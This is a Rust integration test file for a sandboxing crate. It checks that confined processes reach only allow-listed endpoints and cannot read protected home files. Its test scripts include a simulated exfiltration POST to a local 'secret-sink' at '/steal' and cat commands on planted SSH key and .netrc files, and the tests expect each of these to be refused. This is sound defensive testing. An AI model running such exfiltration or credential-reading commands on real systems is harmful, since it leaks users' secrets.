//! Role processes in a network namespace of their own, reaching only what the allow-list
//! names, and reading only what their read list names.

mod common;

use std::io::{Read, Write};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use breeze_supervise::{
    Confinement, Ending, HostRule, NetworkAccess, ProcessSpec, Refusal, kernel_support,
    network_namespace_support, readable_except, scrubbed_env,
};
use common::*;

/// Skips (loudly) where the machine cannot make network namespaces, unless CI says it must.
fn namespaces_or_skip() -> bool {
    let support =
        network_namespace_support().and_then(|()| match kernel_support().is_available() {
            true => Ok(()),
            false => Err(kernel_support().to_string()),
        });
    match support {
        Ok(()) => true,
        Err(why) => {
            assert!(
                std::env::var_os("BREEZE_REQUIRE_LANDLOCK").is_none(),
                "BREEZE_REQUIRE_LANDLOCK is set but {why}"
            );
            eprintln!("skipped: {why}");
            false
        }
    }
}

/// A one-answer HTTP server on the engine's loopback: answers every request with `body`.
fn http_server(body: &'static str) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut buffer = [0u8; 4096];
            let _ = stream.read(&mut buffer);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

fn access(allow: &[String], refusals: &Arc<Mutex<Vec<Refusal>>>) -> NetworkAccess {
    let refusals = refusals.clone();
    NetworkAccess {
        allow: allow.iter().map(|rule| HostRule::parse(rule).unwrap()).collect(),
        on_refused: Arc::new(move |refusal| refusals.lock().unwrap().push(refusal)),
    }
}

#[tokio::test]
async fn a_role_reaches_its_allowed_endpoints_and_is_refused_the_rest_on_record() {
    if !namespaces_or_skip() {
        return;
    }
    let allowed = http_server("model-api");
    let other = http_server("secret-sink");
    let root = tempfile::tempdir().unwrap();
    let refusals = Arc::new(Mutex::new(Vec::new()));
    let access = access(&[format!("http://127.0.0.1:{allowed}/v1")], &refusals);
    let script = format!(
        "curl -sS -m 10 http://127.0.0.1:{allowed}/v1/messages; echo; \
         curl -sS -m 10 --noproxy '*' http://127.0.0.1:{allowed}/direct; echo; \
         curl -sS -m 10 -X POST -d key=abc http://127.0.0.1:{other}/steal; echo \" exit=$?\"; \
         curl -sS -m 10 --noproxy '*' http://127.0.0.1:{other}/direct >/dev/null 2>&1; echo \"direct-other exit=$?\"; \
         curl -sS -m 10 https://example.com/ >/dev/null 2>&1; echo \"remote exit=$?\""
    );
    let argv = vec!["sh".to_owned(), "-c".to_owned(), script];
    let mut spec = ProcessSpec::new(argv, root.path(), root.path().join("logs/role"));
    spec.env = scrubbed_env(std::env::vars(), &[], &access.proxy_env());
    spec.timeout = Some(Duration::from_secs(60));
    spec.network = Some(access);
    let (outcome, seen) = run(spec).await;
    assert_eq!(outcome.ending, Ending::Exited(0), "{}", outcome.stderr_tail);
    assert_eq!(
        seen.lines[0], "model-api",
        "through the proxy: {:?} {}",
        seen.lines, outcome.stderr_tail
    );
    assert_eq!(seen.lines[1], "model-api", "at its own address: {:?}", seen.lines);
    assert!(seen.lines[2].contains("not on this run's network allow-list"), "{:?}", seen.lines);
    assert_ne!(seen.lines[3], "direct-other exit=0", "{:?}", seen.lines);
    assert_ne!(seen.lines[4], "remote exit=0", "{:?}", seen.lines);
    let refusals = refusals.lock().unwrap().clone();
    assert!(
        refusals.iter().any(|r| r.host == "127.0.0.1" && r.port == other && r.method == "POST"),
        "{refusals:?}"
    );
    assert!(refusals.iter().any(|r| r.host == "example.com" && r.port == 443), "{refusals:?}");
}

#[tokio::test]
async fn a_role_reads_nothing_in_a_hidden_home_but_what_is_put_back() {
    if !namespaces_or_skip() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let home = root.path().join("home");
    let lane = root.path().join("lane");
    for dir in [home.join(".ssh"), home.join(".cargo/bin"), lane.clone()] {
        std::fs::create_dir_all(dir).unwrap();
    }
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    std::fs::write(home.join(".netrc"), "machine x password y\n").unwrap();
    std::fs::write(home.join(".cargo/bin/tool"), "toolchain\n").unwrap();
    let script = format!(
        "cat {home}/.ssh/id_ed25519; echo \"key exit=$?\"; cat {home}/.netrc; echo \"netrc exit=$?\"; \
         cat {home}/.cargo/bin/tool; echo hello > {lane}/a && cat {lane}/a",
        home = home.display(),
        lane = lane.display()
    );
    let argv = vec!["sh".to_owned(), "-c".to_owned(), script];
    let mut spec = ProcessSpec::new(argv, &lane, root.path().join("logs/role"));
    spec.env = scrubbed_env(std::env::vars(), &[], &[]);
    spec.timeout = Some(Duration::from_secs(60));
    spec.confinement = Some(Confinement {
        readable: Some(readable_except(std::slice::from_ref(&home), &[home.join(".cargo")])),
        writable_dirs: vec![lane.clone()],
        ..Confinement::default()
    });
    let (outcome, seen) = run(spec).await;
    assert_eq!(outcome.ending, Ending::Exited(0), "{}", outcome.stderr_tail);
    assert_eq!(
        seen.lines,
        ["key exit=1", "netrc exit=1", "toolchain", "hello"],
        "{}",
        outcome.stderr_tail
    );
    assert!(outcome.stderr_tail.contains("Permission denied"), "{}", outcome.stderr_tail);
}
